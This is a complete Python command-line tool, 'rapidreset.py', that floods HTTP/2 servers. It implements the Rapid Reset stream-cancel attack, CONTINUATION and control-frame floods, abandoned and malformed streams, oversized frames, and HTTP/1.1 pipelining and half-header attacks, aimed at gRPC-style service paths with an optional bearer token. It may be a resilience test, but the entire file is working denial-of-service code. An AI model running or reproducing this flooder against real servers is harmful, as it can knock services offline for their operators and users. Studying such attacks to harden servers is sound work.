"""rapidreset.py ADDRESS MODE CONNECTIONS SECONDS [TOKEN-FILE]

Floods a server of HTTP/2, at HOST:PORT or at the path of a Unix socket. MODE:

reset     HEADERS, DATA, RST_STREAM        headers   HEADERS, RST_STREAM
left      streams that are begun and left  slow      answers that may not be sent
ping settings window priority              frames of that type, without an end
deaf      PING, and no answer is read
empty     DATA without bytes               cont      CONTINUATION without bytes
ended     short DATA on a stream that has ended
large     most of the largest frame        malformed HEADERS without a method
denied    calls that the caller may not make
pipeline half                              HTTP/1.1: many requests at once, half a header

Prints how many bytes were sent, and how many connections the server has ended.
"""
import selectors
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, END_STREAM, END_HEADERS = 1, 1, 4
PATH = b"/bursar.v1.AllocationService/List"
DENIED = b"/bursar.v1.QuotaService/Apply"
BODY = b'{"pageSize":1000}'


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def number(first, bits, value):
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + [value])


def text(value):
    return number(0, 7, len(value)) + value


def field(name, value):
    return b"\0" + text(name) + text(value)


def header(token, path):
    lines = [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", path),
             (b"content-type", b"application/json"), (b"authorization", b"Bearer " + token)]
    return b"".join(field(*line) for line in lines)


def streams(mode, head, count):
    for i in range(count):
        stream = 2 * i + 1
        yield frame(HEADERS, END_HEADERS | (END_STREAM if mode in ("slow", "denied") else 0), stream, head)
        if mode == "reset":
            yield frame(0, END_STREAM, stream, BODY)
        if mode == "empty":
            yield frame(0, 0, stream) * 20
        if mode in ("reset", "headers", "empty"):
            yield frame(3, 0, stream, (8).to_bytes(4, "big"))


def flood(mode, token):
    """What one connection sends, whether it stays open when all of that is sent, and where in it the
    connection then begins again (0: it does not)."""
    if mode in ("pipeline", "half"):
        lines = [b"POST " + PATH + b" HTTP/1.1", b"Host: a", b"Content-Type: application/json",
                 b"Authorization: Bearer " + token, b"Content-Length: 2", b"", b"{}"]
        request = b"\r\n".join(lines)
        return (request[:-20], True, 0) if mode == "half" else (request * 20000, False, 0)
    window = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")
    begin = PREFACE + frame(4, 0, 0, window if mode in ("slow", "denied") else b"")
    head = header(token, DENIED if mode == "denied" else PATH)
    many = 60000
    if mode in ("left", "slow", "denied"):
        return begin + b"".join(streams(mode, head, 4000)), True, 0
    if mode in ("reset", "headers", "empty"):
        return begin + b"".join(streams(mode, head, 20000)), False, 0
    if mode == "cont":
        begin += frame(HEADERS, 0, 1, head)
        return begin + frame(9, 0, 1) * many, True, len(begin)
    if mode == "ended":
        begin += frame(HEADERS, END_HEADERS | END_STREAM, 1, head)
        return begin + frame(0, 0, 1, bytes(256)) * many, True, len(begin)
    if mode == "large":
        return begin + frame(0x77, 0, 0, bytes((1 << 20) - 1))[:-10], True, 0
    if mode == "malformed":
        return begin + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, field(b"x", b"y")) for i in range(many)), False, 0
    one = {"ping": frame(6, 0, 0, bytes(8)), "settings": frame(4, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big")),
           "window": frame(8, 0, 0, (1).to_bytes(4, "big")), "priority": frame(2, 0, 1, bytes(4) + b"\3")}["ping" if mode == "deaf" else mode]
    return begin + one * many, True, len(begin)


def connect(address):
    if address.startswith("/"):
        conn = socket.socket(socket.AF_UNIX)
        conn.connect(address)
    else:
        host, port = address.rsplit(":", 1)
        conn = socket.create_connection((host, int(port)))
    conn.setblocking(False)
    return conn


def main():
    address, mode, connections, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    token = open(sys.argv[5], "rb").read().strip() if len(sys.argv) > 5 else b"nobody"
    data, stays, again = flood(mode, token)
    data = memoryview(data)
    all_of_them = selectors.DefaultSelector()
    both = selectors.EVENT_WRITE if mode == "deaf" else selectors.EVENT_READ | selectors.EVENT_WRITE
    sent = ended = 0
    end = time.monotonic() + seconds

    def begin():
        try:
            all_of_them.register(connect(address), both, [0])
        except OSError:
            return

    for _ in range(connections):
        begin()
    while time.monotonic() < end:
        if len(all_of_them.get_map()) < connections:
            begin()
        for key, events in all_of_them.select(0.1):
            conn, at = key.fileobj, key.data
            try:
                if events & selectors.EVENT_READ and conn.recv(1 << 16) == b"":
                    raise ConnectionResetError
                if events & selectors.EVENT_WRITE:
                    n = conn.send(data[at[0]:at[0] + (1 << 15)])
                    at[0] += n
                    sent += n
            except BlockingIOError:
                continue
            except OSError:
                ended += 1
                at[0] = len(data)
                stays_open = False
            else:
                stays_open = stays
            if at[0] < len(data):
                continue
            if stays_open and again:
                at[0] = again
                continue
            if stays_open:
                all_of_them.modify(conn, selectors.EVENT_READ, at)
                continue
            all_of_them.unregister(conn)
            conn.close()
    print(f"{mode}: {sent} bytes sent, {ended} connections ended")


main()
